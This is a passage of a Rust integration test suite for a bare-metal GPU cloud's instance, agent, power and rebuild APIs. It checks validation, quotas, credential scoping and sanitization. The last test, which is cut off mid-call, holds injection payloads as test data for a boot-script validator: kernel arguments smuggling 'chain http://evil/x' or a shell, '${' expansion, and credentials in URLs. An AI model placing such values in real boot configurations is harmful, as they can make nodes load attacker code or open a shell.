//! The bare-metal instance and agent APIs at their edges, on both stores:
//! instance requests checked (refusals write nothing, quotas and names per
//! gang), the agent API's authentication and step scoping, and a
//! registration retried after a lost answer. The test plays the node, as
//! in `baremetal_faults.rs`.

mod bm;
mod common;
#[path = "../../redfish/tests/common/mod.rs"]
mod peers;

use bm::*;
use common::nodes::{
    capacity_is_the_stores, engine_reloads, lifecycle, node, token_of, wait_for, wait_node,
};
use common::{TestBackend, TestServer};
use serde_json::{json, Value};
use std::time::Duration;

#[test]
fn instance_requests_are_checked_and_refusals_write_nothing() {
    for b in TestBackend::ALL {
        let Some(s) = server_without_controller(b) else { continue };
        let b = b.as_str();
        let a = s.admin();
        let tenant = catalog(&s, false);
        // Nodes without a BMC are available at once.
        for n in ["m-1", "m-2"] {
            a.post(
                "/v1/nodes",
                &json!({"name": n, "site": "s", "pod": "p", "su": "su1", "rack": "r1",
                        "gpu_model": "h100-80gb", "gpus": 8}),
            )
            .expect(201);
        }
        a.post(
            "/v1/instance-types",
            &json!({"name": "vm-8", "kind": "vm", "gpus": 8, "gpu_model": "h100-80gb"}),
        )
        .expect(201);
        let body = |over: Value| {
            let mut v = json!({"name": "web", "instance_type": "bm-h100", "image": "ubuntu"});
            for (k, x) in over.as_object().unwrap() {
                v[k] = x.clone();
            }
            v
        };
        let before = snapshot(&s);
        assert_eq!(before[6], 2, "[{b}] {before:?}");
        for (what, over, field) in [
            ("a VM type", json!({"instance_type": "vm-8"}), "instance_type"),
            ("an unknown type", json!({"instance_type": "nope"}), "instance_type"),
            ("an unknown image", json!({"image": "nope"}), "image"),
            ("a bad SSH key", json!({"ssh_keys": ["not a key"]}), "ssh_keys[0]"),
            (
                "a key with a newline",
                json!({"ssh_keys": [KEY, format!("{KEY}\nx")]}),
                "ssh_keys[1]",
            ),
            ("user_data over 64 KiB", json!({"user_data": "x".repeat(64 * 1024 + 1)}), "user_data"),
            ("count 0", json!({"count": 0}), "count"),
        ] {
            let r = tenant.post(INSTANCES, &body(over));
            assert_eq!(r.status, 422, "[{b}] {what}: {}", r.text);
            assert_eq!(r.error(), ("invalid_value".into(), Some(field.into())), "[{b}] {what}");
            assert_eq!(snapshot(&s), before, "[{b}] {what}: the store changed");
        }
        let r = tenant.post(INSTANCES, &body(json!({"instance_type": "vm-8"})));
        assert!(r.text.contains("vm"), "[{b}] the message says why: {}", r.text);

        // No sanitizer in the catalog: no node is handed out.
        let r = tenant.post(INSTANCES, &body(json!({}))).expect(409);
        assert_eq!(r.error().0, "conflict", "[{b}] {}", r.text);
        assert!(r.text.contains("sanitizer"), "[{b}] {}", r.text);
        assert_eq!(snapshot(&s), before, "[{b}] refused without a sanitizer: the store changed");
        add_sanitizer(&s);
        let r = tenant.post(INSTANCES, &body(json!({"image": "sanitizer"}))).expect(422);
        assert_eq!(r.error().1.as_deref(), Some("image"), "[{b}] the sanitizer is no tenant image");
        assert_eq!(snapshot(&s), before, "[{b}]");

        // Quota for one node: a gang of two is refused whole.
        let q = a.get("/v1/tenants/acme/quotas").expect(200).body;
        a.put(
            "/v1/tenants/acme/quotas",
            &json!({"generation": q["generation"], "limits": {"nodes": 1, "gpu:h100-80gb": 32}}),
        )
        .expect(200);
        let r = tenant.post(INSTANCES, &body(json!({"count": 2}))).expect(409);
        assert_eq!(r.error().0, "quota_exceeded", "[{b}] {}", r.text);
        assert_eq!(snapshot(&s), before, "[{b}] over quota: nothing kept");

        let inst = tenant.post(INSTANCES, &body(json!({}))).expect(201).body["items"][0].clone();
        let id = inst["id"].as_str().unwrap().to_string();
        let r = tenant.post(INSTANCES, &body(json!({}))).expect(409);
        assert_eq!(r.error(), ("already_exists".into(), Some("name".into())), "[{b}] {}", r.text);
        // Its allocation cannot be released behind its back.
        let alloc = format!(
            "/v1/tenants/acme/projects/train/allocations/{}",
            inst["allocation_id"].as_str().unwrap()
        );
        let r = tenant.delete(&alloc).expect(409);
        assert!(r.text.contains("release the instance"), "[{b}] {}", r.text);
        assert_eq!(tenant.get(&alloc).expect(200).body["state"], "active", "[{b}]");
        assert_eq!(committed(&s, "nodes"), 1, "[{b}]");

        // Releasing is idempotent: recorded once.
        let r1 = release(&tenant, &id).expect(202).body;
        let r2 = release(&tenant, &id).expect(202).body;
        assert_eq!(r1["generation"], r2["generation"], "[{b}] the second changed nothing");
        assert_eq!(r2["state"], "pending", "[{b}] the controller acts on it: {r2}");
        let (ctl, secrets) = controller(&s);
        ctl.run_once(&s.store, &secrets).unwrap();
        assert_eq!(instance(&tenant, &id)["state"], "released", "[{b}]");
        let r3 = release(&tenant, &id).expect(202).body;
        assert_eq!(r3["state"], "released", "[{b}] {r3}");
        assert_eq!(committed(&s, "nodes"), 0, "[{b}]");
        // The name is free again.
        let web = tenant.post(INSTANCES, &body(json!({}))).expect(201).body["items"][0].clone();
        release(&tenant, web["id"].as_str().unwrap()).expect(202);
        ctl.run_once(&s.store, &secrets).unwrap();

        // A gang of two, written together: an instance, allocation and
        // quota claim each (each is released on its own).
        let q = a.get("/v1/tenants/acme/quotas").expect(200).body;
        a.put(
            "/v1/tenants/acme/quotas",
            &json!({"generation": q["generation"], "limits": {"nodes": 2, "gpu:h100-80gb": 32}}),
        )
        .expect(200);
        let items =
            tenant.post(INSTANCES, &body(json!({"name": "job", "count": 2}))).expect(201).body
                ["items"]
                .as_array()
                .unwrap()
                .clone();
        let names: Vec<&str> = items.iter().map(|i| i["name"].as_str().unwrap()).collect();
        assert_eq!(names, ["job-0", "job-1"], "[{b}]");
        assert_ne!(items[0]["node_id"], items[1]["node_id"], "[{b}]");
        assert_ne!(items[0]["allocation_id"], items[1]["allocation_id"], "[{b}]");
        let mut claims = Vec::new();
        for i in &items {
            assert_eq!(i["state"], "pending", "[{b}] {i}");
            let alloc = tenant
                .get(&format!(
                    "/v1/tenants/acme/projects/train/allocations/{}",
                    i["allocation_id"].as_str().unwrap()
                ))
                .expect(200)
                .body;
            assert_eq!(alloc["count"], 1, "[{b}] {alloc}");
            let claim = tenant
                .get(&format!(
                    "/v1/tenants/acme/projects/train/claims/{}",
                    alloc["claim_id"].as_str().unwrap()
                ))
                .expect(200)
                .body;
            assert_eq!(claim["state"], "committed", "[{b}] {claim}");
            assert_eq!(claim["resources"], json!({"nodes": 1, "gpu:h100-80gb": 8}), "[{b}]");
            assert!(claim["description"].as_str().unwrap().contains(i["name"].as_str().unwrap()));
            claims.push(claim["id"].clone());
        }
        assert_ne!(claims[0], claims[1], "[{b}]");
        assert_eq!(committed(&s, "nodes"), 2, "[{b}]");
        assert_eq!(committed(&s, "gpu:h100-80gb"), 16, "[{b}]");
        // The same names again: refused, naming the first one taken, before
        // anything is placed or written.
        let before = snapshot(&s);
        let r = tenant.post(INSTANCES, &body(json!({"name": "job", "count": 2}))).expect(409);
        assert_eq!(r.error(), ("already_exists".into(), Some("name".into())), "[{b}] {}", r.text);
        assert!(r.text.contains("job-0"), "[{b}] {}", r.text);
        assert_eq!(snapshot(&s), before, "[{b}]");
        // One of them released: its own claim is released, the other's stays.
        release(&tenant, items[0]["id"].as_str().unwrap()).expect(202);
        ctl.run_once(&s.store, &secrets).unwrap();
        let state = |id: &Value| {
            tenant
                .get(&format!("/v1/tenants/acme/projects/train/claims/{}", id.as_str().unwrap()))
                .expect(200)
                .body["state"]
                .clone()
        };
        assert_eq!(state(&claims[0]), "released", "[{b}]");
        assert_eq!(state(&claims[1]), "committed", "[{b}]");
        assert_eq!(committed(&s, "nodes"), 1, "[{b}]");
    }
}

#[test]
fn the_agent_api_authenticates_agents_and_scopes_their_steps() {
    let Some(emu) = peers::Emulator::start(2) else { return };
    for b in TestBackend::ALL {
        let Some(s) = server(b, 120) else { continue };
        let b = b.as_str();
        let tenant = setup(&s, &emu, 2);
        let anon = s.anonymous();

        // The boot service's refusals.
        for path in ["/boot/ipxe", "/boot/ipxe?mac=", "/boot/ipxe?mac=nonsense"] {
            let r = anon.get(path).expect(400);
            assert_eq!(r.error().1.as_deref(), Some("mac"), "[{b}] {path}: {}", r.text);
        }
        let r = anon.get("/boot/ipxe?mac=52:54:00:ff:ff:ff").expect(404);
        assert!(r.text.contains("unknown MAC"), "[{b}] {}", r.text);
        let r = anon.get(&format!("/boot/nocloud/{}/meta-data", "ab".repeat(32))).expect(404);
        assert_eq!(r.error().0, "not_found", "[{b}] {}", r.text);
        // No agent credential, an unknown one, users' API tokens: 401, as
        // JSON errors.
        let hb = heartbeat(&anon).expect(401);
        assert_eq!(hb.error().0, "unauthenticated", "[{b}] {}", hb.text);
        assert_eq!(hb.header("www-authenticate"), Some("Bearer"), "[{b}]");
        for (what, c) in [
            ("unknown", s.client(&"cd".repeat(32))),
            ("the admin's API token", s.admin()),
            ("a tenant user's API token", tenant.clone()),
        ] {
            let r = heartbeat(&c);
            assert_eq!(r.status, 401, "[{b}] {what}: {}", r.text);
            assert_eq!(r.error().0, "unauthenticated", "[{b}] {what}");
            assert_eq!(report(&c, "stp_x", true).status, 401, "[{b}] {what}");
        }
        register_raw(&s, "not-a-token", "x").expect(401);

        // Two instances; their agents register by hand.
        let r = tenant
            .post(
                INSTANCES,
                &json!({"name": "job", "instance_type": "bm-h100", "image": "ubuntu", "count": 2}),
            )
            .expect(201);
        let items = r.body["items"].as_array().unwrap().clone();
        let mut creds = Vec::new();
        for i in 1..=2 {
            let token = token_of(&wait_boot(&s, i, TENANT_KERNEL));
            let reg = register_raw(&s, &token, &format!("n{i}")).expect(201).body;
            assert_eq!(reg["node_id"], node(&s, &format!("bm-{i}"))["id"], "[{b}]");
            assert_eq!(reg["heartbeat_interval_ms"], 100, "[{b}]");
            // One time only.
            register_raw(&s, &token, &format!("n{i}")).expect(401);
            creds.push(s.client(reg["credential"].as_str().unwrap()));
        }
        for i in 1..=2 {
            wait_node(&s, &format!("bm-{i}"), "active", None);
        }
        assert_eq!(heartbeat(&creds[0]).expect(200).body["steps"], json!([]), "[{b}]");
        // Release bm-1's instance; its agent's credential stops working.
        let bm1 = node(&s, "bm-1")["id"].clone();
        let on_bm1 = items.iter().find(|i| i["node_id"] == bm1).unwrap();
        release(&tenant, on_bm1["id"].as_str().unwrap()).expect(202);
        let token = token_of(&wait_boot(&s, 1, SANITIZER_KERNEL));
        heartbeat(&creds[0]).expect(401);
        let reg = register_raw(&s, &token, "n1-san").expect(201).body;
        let san = s.client(reg["credential"].as_str().unwrap());
        let steps = wait_for(&format!("[{b}] sanitizer steps"), Duration::from_secs(60), || {
            let steps = heartbeat(&san).expect(200).body["steps"].as_array().unwrap().clone();
            (!steps.is_empty()).then_some(steps)
        });
        let kinds: Vec<&str> = steps.iter().map(|s| s["kind"].as_str().unwrap()).collect();
        assert_eq!(
            kinds,
            [
                "wipe_disks",
                "reset_gpus",
                "report_firmware",
                "reset_nic_settings",
                "clear_uefi_variables",
                "clear_tpm"
            ],
            "[{b}]"
        );
        // No UEFI baseline recorded yet for the node: none sent.
        assert!(steps[3].get("uefi_baseline").is_none(), "[{b}] {}", steps[3]);
        let first = steps[0]["id"].as_str().unwrap();
        // Another agent's step: bm-2's live tenant agent cannot report it.
        let r = report(&creds[1], first, false).expect(404);
        assert_eq!(r.error().0, "not_found", "[{b}] {}", r.text);
        // A revoked credential cannot either; unknown steps are 404.
        report(&creds[0], first, false).expect(401);
        report(&san, "stp_unknown", true).expect(404);
        // A malformed report is refused and records nothing.
        san.post(&format!("/agent/v1/steps/{first}"), &json!({"ok": true})).expect(400);
        // Reported once; a retried report is accepted and changes nothing.
        report(&san, first, true).expect(200);
        report(&san, first, false).expect(200);
        let pending = heartbeat(&san).expect(200).body["steps"].as_array().unwrap().len();
        assert_eq!(pending, steps.len() - 1, "[{b}] the reported step is done");
        for st in &steps[1..] {
            report(&san, st["id"].as_str().unwrap(), true).expect(200);
        }
        wait_node(&s, "bm-1", "available", None);
        heartbeat(&san).expect(401);
        let recs = records(&tenant, on_bm1["id"].as_str().unwrap());
        let wipe = check(&recs[0], "wipe_disks");
        assert_eq!(wipe["ok"], true, "[{b}] the first report stands: {wipe}");
        assert_eq!(recs[0]["body"]["complete"], true, "[{b}] {}", recs[0]);
        // bm-2's agent is unaffected.
        heartbeat(&creds[1]).expect(200);
        assert_eq!(lifecycle(&s, "bm-2")["state"], "active", "[{b}]");
    }
}

/// An agent whose registration answer was lost asks again with the
/// credential it proposed and gets the same registration, also after its
/// node moved on; the used token is worth nothing to anyone else.
#[test]
fn a_registration_retried_after_a_lost_answer_is_answered_again_and_only_for_its_agent() {
    let Some(emu) = peers::Emulator::start(2) else { return };
    for b in TestBackend::ALL {
        let Some(s) = server(b, 120) else { continue };
        let b = b.as_str();
        let tenant = setup(&s, &emu, 2);
        create(&tenant, "job");
        create(&tenant, "other");
        let token = token_of(&wait_boot(&s, 1, TENANT_KERNEL));
        // A proposed credential must look like one, and refusing it uses
        // nothing up.
        for bad in ["short", &"zz".repeat(32), &"ab".repeat(33)] {
            let r = register_as(&s, &token, Some(bad)).expect(400);
            assert_eq!(r.error().1.as_deref(), Some("credential"), "[{b}] {}", r.text);
        }
        let mine = "ab".repeat(32);
        let first = register_as(&s, &token, Some(&mine)).expect(201).body;
        assert_eq!(first["credential"], mine.as_str(), "[{b}] {first}");
        // Another node's agent proposing the same credential (an image
        // with a fixed one): refused, naming it, its token not used up.
        let other = token_of(&wait_boot(&s, 2, TENANT_KERNEL));
        let r = register_as(&s, &other, Some(&mine)).expect(400);
        assert_eq!(r.error().1.as_deref(), Some("credential"), "[{b}] {}", r.text);
        register_as(&s, &other, Some(&"ef".repeat(32))).expect(201);
        // The answer was lost: the same agent asks again.
        let again = register_as(&s, &token, Some(&mine)).expect(201).body;
        assert_eq!(again["agent_id"], first["agent_id"], "[{b}] {again}");
        // Anyone else with the used token: refused, credential or not.
        register_as(&s, &token, Some(&"cd".repeat(32))).expect(401);
        register_as(&s, &token, None).expect(401);
        // The node moves on to active; the retry is still recognised.
        wait_node(&s, "bm-1", "active", None);
        let late = register_as(&s, &token, Some(&mine)).expect(201).body;
        assert_eq!(late["agent_id"], first["agent_id"], "[{b}] {late}");
        let node_id = node(&s, "bm-1")["id"].as_str().unwrap().to_string();
        assert_eq!(
            count(&s, &format!("SELECT COUNT(*) FROM agents WHERE node_id = '{node_id}'")),
            1,
            "[{b}] one agent"
        );
        heartbeat(&s.client(&mine)).expect(200);
        let trail = actions(&s, &format!("/{node_id}"));
        assert_eq!(times(&trail, "agent_register_tenant"), 1, "[{b}] {trail:?}");
    }
}

/// A tenant's power actions on its ready instance's node: recorded by the
/// API (checked: the field named, ready instances only, one at a time once
/// sent), done by the lifecycle controller over the SIMULATED BMC, the
/// outcome in `power.last` and in the tenant's audit chain. A BMC that does
/// not allow a reset type fails the action, not the node; an action a pass
/// marked sent and did not record is not sent again.
#[test]
fn power_actions_on_a_ready_instance_are_done_over_the_bmc() {
    use std::sync::{Arc, Mutex};
    let f = fleet();
    let resets = Arc::new(Mutex::new(Vec::<String>::new()));
    // While set, the BMC makes each reset and loses its answer.
    let lose = Arc::new(std::sync::atomic::AtomicBool::new(false));
    {
        let (resets, lose) = (resets.clone(), lose.clone());
        f.sim.on_change(move |_, what| {
            if let Some(t) = what.strip_prefix("reset ") {
                resets.lock().unwrap().push(t.to_string());
                return lose.load(std::sync::atomic::Ordering::SeqCst);
            }
            false
        });
    }
    for (i, b) in TestBackend::ALL.into_iter().enumerate() {
        let Some(s) = server_without_controller(b) else { continue };
        let b = b.as_str();
        let (h, _) = simulated_node(&s, &f, i);
        let id = h.provision("job");
        let power = format!("{INSTANCES}/{id}/power");
        let act = |body: Value| {
            let r = h.tenant.post(&power, &body).expect(202).body;
            assert_eq!(r["power"]["pending"]["action"], body["action"], "[{b}] {r}");
            resets.lock().unwrap().clear();
            h.ctl.run_once(&s.store, &h.secrets).unwrap();
            let i = instance(&h.tenant, &id);
            assert_eq!(i["state"], "ready", "[{b}] the node stays the tenant's: {i}");
            assert!(i["power"].get("pending").is_none(), "[{b}] done: {i}");
            (i["power"]["last"].clone(), resets.lock().unwrap().clone())
        };

        // Refused, naming the field; nothing recorded.
        let r = h.tenant.post(&power, &json!({"action": "hibernate"})).expect(400).body;
        assert_eq!(r["error"]["field"], "action", "[{b}] {r}");
        let r = h.tenant.post(&power, &json!({"action": "on", "now": true})).expect(400).body;
        assert_eq!(r["error"]["field"], "now", "[{b}] {r}");
        let viewer = s.client(&s.user_with_role("acme", "vic", "tenant-viewer", None));
        viewer.post(&power, &json!({"action": "reboot"})).expect(403);
        assert!(instance(&h.tenant, &id).get("power").is_none(), "[{b}]");

        // This BMC does not allow GracefulRestart: the action fails with
        // the BMC's list, nothing is sent, the node is untouched.
        let (last, sent) = act(json!({"action": "reboot"}));
        assert_eq!(last["ok"], false, "[{b}] {last}");
        assert_eq!(last["reset_type"], "GracefulRestart", "[{b}]");
        assert_eq!(
            last["detail"],
            "GracefulRestart: not supported by this BMC: reset type GracefulRestart (allowed: On, \
             ForceOff, GracefulShutdown, ForceRestart)",
            "[{b}]"
        );
        assert!(sent.is_empty(), "[{b}] {sent:?}");
        // Asked with an Idempotency-Key: done once; the retry (its answer
        // lost, say) answers the first result and asks nothing more.
        let body = br#"{"action": "reboot", "force": true}"#;
        let keyed = || h.tenant.raw("POST", &power, Some(body), &[("Idempotency-Key", "reboot-1")]);
        let first = keyed().expect(202);
        assert_eq!(first.body["power"]["pending"]["action"], "reboot", "[{b}] {}", first.text);
        resets.lock().unwrap().clear();
        h.ctl.run_once(&s.store, &h.secrets).unwrap();
        let last = instance(&h.tenant, &id)["power"]["last"].clone();
        assert_eq!(last["ok"], true, "[{b}] {last}");
        assert_eq!(last["detail"], "ForceRestart sent; the BMC took it", "[{b}]");
        assert_eq!(*resets.lock().unwrap(), ["ForceRestart"], "[{b}]");
        let again = keyed().expect(202);
        assert_eq!(again.header("idempotent-replayed"), Some("true"), "[{b}]");
        assert_eq!(again.body, first.body, "[{b}] the first answer");
        let inst = instance(&h.tenant, &id);
        assert!(inst["power"].get("pending").is_none(), "[{b}] nothing asked again: {inst}");
        // Everything counts as silent before the end of time, but a node
        // its tenant powered off.
        let silent = || {
            s.store.read(|r| neocloud_store::agents::silent_on_active_nodes(r, i64::MAX)).unwrap()
        };
        assert_eq!(silent(), 1, "[{b}]");
        let (last, sent) = act(json!({"action": "off"}));
        assert_eq!(
            (&last["ok"], sent.as_slice()),
            (&json!(true), &["GracefulShutdown".to_string()][..]),
            "[{b}]"
        );
        assert!(!f.sim.power_on(i), "[{b}] off");
        assert_eq!(
            silent(),
            0,
            "[{b}] its agent's silence is no alert while its tenant has it off"
        );
        let (last, sent) = act(json!({"action": "on"}));
        assert_eq!(
            (&last["ok"], sent.as_slice()),
            (&json!(true), &["On".to_string()][..]),
            "[{b}]"
        );
        assert!(f.sim.power_on(i), "[{b}] on");
        assert_eq!(silent(), 1, "[{b}]");

        // The BMC does a forced off and its answer is lost: sent once (not
        // retried: it may have been done), read back off, recorded done.
        lose.store(true, std::sync::atomic::Ordering::SeqCst);
        let (last, sent) = act(json!({"action": "off", "force": true}));
        lose.store(false, std::sync::atomic::Ordering::SeqCst);
        assert_eq!(sent, ["ForceOff"], "[{b}] sent once");
        assert_eq!(last["ok"], true, "[{b}] {last}");
        let detail = last["detail"].as_str().unwrap();
        assert!(
            detail.starts_with("ForceOff sent; its answer was lost (")
                && detail.ends_with(", the node reads Off"),
            "[{b}] {detail}"
        );
        assert_eq!(silent(), 0, "[{b}] off by its tenant's hand");
        // A reboot whose answer is lost leaves no trace to read: failed, the
        // tenant decides; still sent once.
        lose.store(true, std::sync::atomic::Ordering::SeqCst);
        let (last, sent) = act(json!({"action": "reboot", "force": true}));
        lose.store(false, std::sync::atomic::Ordering::SeqCst);
        assert_eq!(sent, ["ForceRestart"], "[{b}] sent once");
        assert_eq!(last["ok"], false, "[{b}] {last}");
        assert!(
            last["detail"].as_str().unwrap().starts_with("ForceRestart: BMC answered 500"),
            "[{b}] {last}"
        );
        assert!(f.sim.power_on(i), "[{b}] on again (the BMC did restart it)");

        // A pass marked an action sent and died before recording it: the
        // next one records it as not known, and does not send it again; a
        // new request waits for that (409).
        let inst = s.store.read(|r| neocloud_store::instances::by_id(r, &id)).unwrap();
        let mut p = inst.power.clone().unwrap();
        p.pending = Some(neocloud_types::PowerPending {
            action: neocloud_types::PowerAction::Off,
            force: true,
            requested_at: "2026-12-05T00:00:00Z".into(),
            sent_at: Some("2026-12-05T00:00:01Z".into()),
        });
        s.store.write(|w| neocloud_store::instances::set_power(w, &id, &p)).unwrap();
        let r = h.tenant.post(&power, &json!({"action": "on"})).expect(409).body;
        assert!(
            r["error"]["message"].as_str().unwrap().contains("a power action (off) is being done"),
            "[{b}] {r}"
        );
        resets.lock().unwrap().clear();
        h.ctl.run_once(&s.store, &h.secrets).unwrap();
        let last = instance(&h.tenant, &id)["power"]["last"].clone();
        assert_eq!(last["ok"], false, "[{b}] {last}");
        assert_eq!(
            last["detail"],
            "ForceOff sent at 2026-12-05T00:00:01Z by a pass that did not finish (a restart): \
             the node reads On; whether the BMC took it is not known, and it is not sent again",
            "[{b}]"
        );
        assert!(resets.lock().unwrap().is_empty(), "[{b}] not sent again");
        assert!(f.sim.power_on(i), "[{b}]");

        // Every action done is in the tenant's audit chain.
        let trail: Vec<(String, String)> = s
            .client(&s.user_with_role("acme", "ada", "tenant-admin", None))
            .get("/v1/tenants/acme/audit?limit=1000")
            .expect(200)
            .body["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["action"].as_str().unwrap().starts_with("instance_power_"))
            .map(|e| {
                (
                    e["action"].as_str().unwrap().to_string(),
                    e["outcome"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        let want: Vec<(String, String)> = [
            ("instance_power_reboot", "failed"),
            ("instance_power_reboot", "success"),
            ("instance_power_off", "success"),
            ("instance_power_on", "success"),
            ("instance_power_off", "success"),
            ("instance_power_reboot", "failed"),
            ("instance_power_off", "failed"),
        ]
        .iter()
        .map(|(a, o)| (a.to_string(), o.to_string()))
        .collect();
        let mut got = trail.clone();
        got.sort();
        let mut want_sorted = want.clone();
        want_sorted.sort();
        assert_eq!(got, want_sorted, "[{b}] {trail:?}");
        // And counted for monitoring.
        let m = h.ctl.render_metrics();
        for (action, outcome, n) in [
            ("off", "failed", 1),
            ("off", "success", 2),
            ("on", "success", 1),
            ("reboot", "failed", 2),
            ("reboot", "success", 1),
        ] {
            let line = format!(
                "neocloud_instance_power_actions_total{{action=\"{action}\",outcome=\"{outcome}\"}} {n}\n"
            );
            assert!(m.contains(&line), "[{b}] {line} in:\n{m}");
        }

        // Released: no more power actions; the release goes on as ever.
        release(&h.tenant, &id).expect(202);
        let r = h.tenant.post(&power, &json!({"action": "reboot", "force": true})).expect(409).body;
        assert!(r["error"]["message"].as_str().unwrap().contains("is released"), "[{b}] {r}");
    }
}

/// A tenant rebuilds its ready instance: the node goes back to
/// provisioning for the same tenant (not sanitized: it stays the tenant's)
/// with the image asked, the old OS's agent loses its credential, the new
/// image's agent checks in, and the instance is ready again; a release
/// afterwards sanitizes as ever. Refusals name the field; power actions
/// wait for the rebuild.
#[test]
fn a_rebuild_provisions_the_node_again_for_its_tenant() {
    const ROCKY_KERNEL: &str = "kernel http://img.local/rocky/vmlinuz";
    let f = fleet();
    for (i, b) in TestBackend::ALL.into_iter().enumerate() {
        let Some(s) = server_without_controller(b) else { continue };
        let b = b.as_str();
        let (h, _) = simulated_node(&s, &f, i);
        let rocky = s
            .admin()
            .post(
                "/v1/images",
                &json!({"name": "rocky", "kernel_url": "http://img.local/rocky/vmlinuz",
                        "initrd_url": "http://img.local/rocky/initrd"}),
            )
            .expect(201)
            .body["id"]
            .as_str()
            .unwrap()
            .to_string();
        let id = h.provision("job");
        let rebuild = format!("{INSTANCES}/{id}/rebuild");

        // Refused, naming the field; nothing recorded.
        let r = h.tenant.post(&rebuild, &json!({"image": "sanitizer"})).expect(422).body;
        assert_eq!(r["error"]["field"], "image", "[{b}] {r}");
        let r = h.tenant.post(&rebuild, &json!({"image": "rocky", "now": 1})).expect(400).body;
        assert_eq!(r["error"]["field"], "now", "[{b}] {r}");
        let r = h.tenant.post(&rebuild, &json!({"ssh_keys": ["not a key"]})).expect(422).body;
        assert_eq!(r["error"]["field"], "ssh_keys[0]", "[{b}] {r}");
        let viewer = s.client(&s.user_with_role("acme", "vic", "tenant-viewer", None));
        viewer.post(&rebuild, &json!({})).expect(403);
        assert!(instance(&h.tenant, &id).get("rebuild_image_id").is_none(), "[{b}]");

        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRebuild rebuilt@laptop";
        let body = json!({"image": "rocky", "ssh_keys": [key],
                          "user_data": "#cloud-config\nruncmd: [[touch, /rebuilt]]\n"});
        let r = h.tenant.post(&rebuild, &body).expect(202).body;
        assert_eq!(r["rebuild_image_id"], rocky.as_str(), "[{b}] {r}");
        assert_eq!(r["state"], "ready", "[{b}] recorded; the controller starts it");
        let r = h.tenant.post(&format!("{INSTANCES}/{id}/power"), &json!({"action": "on"}));
        assert_eq!(r.status, 409, "[{b}] {}", r.text);
        assert!(r.text.contains("is to be rebuilt"), "[{b}] {}", r.text);
        // The image a rebuild waits to boot cannot go meanwhile.
        let r = s.admin().delete("/v1/images/rocky").expect(409);
        assert!(r.text.contains("instances use this image"), "[{b}] {}", r.text);

        drive(&h.ctl, &h.secrets, &s, "bm-1", "provisioning");
        let inst = instance(&h.tenant, &id);
        assert_eq!(inst["state"], "provisioning", "[{b}] {inst}");
        assert_eq!(inst["image_id"], rocky.as_str(), "[{b}] {inst}");
        assert!(inst.get("rebuild_image_id").is_none(), "[{b}] {inst}");
        assert_eq!(inst["ssh_keys"], json!([key]), "[{b}] the keys asked: {inst}");
        let l = lifecycle(&s, "bm-1");
        assert_eq!(l["tenant_id"], inst["tenant_id"], "[{b}] the same tenant's: {l}");
        let hw = s.admin().get("/v1/nodes/bm-1/hardware").expect(200).body;
        assert_eq!(hw["agent"]["revoked"], true, "[{b}] the old OS's agent: {hw}");
        drive_to_boot(&h.ctl, &h.secrets, &s, "bm-1");
        // The new boot's cloud-init documents carry what was asked.
        let token = token_of(&boot_script(&s, &h.mac, ROCKY_KERNEL));
        let doc = |d: &str| common::nodes::get_text(&format!("{}/boot/nocloud/{token}/{d}", s.url));
        let (status, meta) = doc("meta-data");
        assert!(status == 200 && meta.contains(key), "[{b}] {status}: {meta}");
        let (status, user) = doc("user-data");
        assert!(status == 200 && user.contains("/rebuilt"), "[{b}] {status}: {user}");
        register(&s, &h.mac, ROCKY_KERNEL, h.gpus);
        drive(&h.ctl, &h.secrets, &s, "bm-1", "active");
        assert_eq!(instance(&h.tenant, &id)["state"], "ready", "[{b}]");

        // A rebuild asked again while a controller starts the one it read
        // (it passes the image it read): the last one asked boots, with
        // its own keys (the image and keys come from one row).
        let key2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISecond second@laptop";
        h.tenant.post(&rebuild, &json!({"image": "ubuntu", "ssh_keys": [key2]})).expect(202);
        let ubuntu = s.admin().get("/v1/images/ubuntu").expect(200).body["id"].clone();
        s.store.write(|w| neocloud_store::instances::start_rebuild(w, &id, &rocky)).unwrap();
        let inst = instance(&h.tenant, &id);
        assert_eq!(inst["image_id"], ubuntu, "[{b}] the last image asked: {inst}");
        assert_eq!(inst["ssh_keys"], json!([key2]), "[{b}] {inst}");
        assert!(inst.get("rebuild_image_id").is_none(), "[{b}] {inst}");

        // Released afterwards: sanitized, with a complete record.
        assert_eq!(h.release(&id)["state"], "available", "[{b}]");
        assert_eq!(records(&h.tenant, &id)[0]["body"]["complete"], true, "[{b}]");
        let r = h.tenant.post(&rebuild, &json!({}));
        assert_eq!(r.status, 409, "[{b}] {}", r.text);
        assert!(r.text.contains("rebuilds are for ready instances"), "[{b}] {}", r.text);
    }
}

/// An image's URLs and kernel arguments go into the iPXE script the boot
/// service writes: nothing iPXE reads as more than a word (a command
/// separator would run what follows, a `#` word would drop the node's
/// token and metadata source, `${` is expanded), and no credentials in a
/// URL (every tenant reads the catalog). Refused, naming the field,
/// nothing written; the script of an accepted image keeps its token.
#[test]
fn image_urls_and_kernel_arguments_cannot_change_the_boot_script() {
    for b in TestBackend::ALL {
        let Some(s) = server_without_controller(b) else { continue };
        let b = b.as_str();
        let a = s.admin();
        let image = |over: Value| {
            let mut v = json!({"name": "img", "kernel_url": "http://img.local/vmlinuz",
                               "initrd_url": "http://img.local/initrd", "cmdline": "console=ttyS0"});
            for (k, x) in over.as_object().unwrap() {
                v[k] = x.clone();
            }
            v
        };
        for (over, field) in [
            (json!({"cmdline": "console=ttyS0 #"}), "cmdline"),
            (json!({"cmdline": "quiet #rest"}), "cmdline"),
            (json!({"cmdline": "quiet && chain http://evil/x"}), "cmdline"),
            (json!({"cmdline": "quiet || shell"}), "cmdline"),
            (json!({"cmdline": "quiet ; shell"}), "cmdline"),
            (json!({"cmdline": "root=${root-path}"}), "cmdline"),
            (json!({"kernel_url": "http://img.local/${net0/mac}/vmlinuz"}), "kernel_url"),
            (json!({"kernel_url": "https://u:secret@artifacts/vmlinuz"}), "kernel_url"),
            (json!({"initrd_url": "https://token@artifacts/initrd"}), "initrd_url"),
            (json!({"root_url": "https://u:p@artifacts/root.img"}), "root_url"),
        ] {
            let e = a.post("/v1/images", &image(over.clone())).expect(422);
            assert_eq!(e.error().1.as_deref(), Some(field), "[{b}] {over}: {}", e.text);
            assert!(!e.text.contains("secret"), "[{b}] {}", e.text);
        }
        let listed = a.get("/v1/images").expect(200).body;
        assert_eq!(listed["items"].as_array().map(Vec::len), Some(0), "[{b}] {listed}");
        // A `#` inside a word, and an `@` in a URL's path, are plain text.
        a.post(
            "/v1/images",
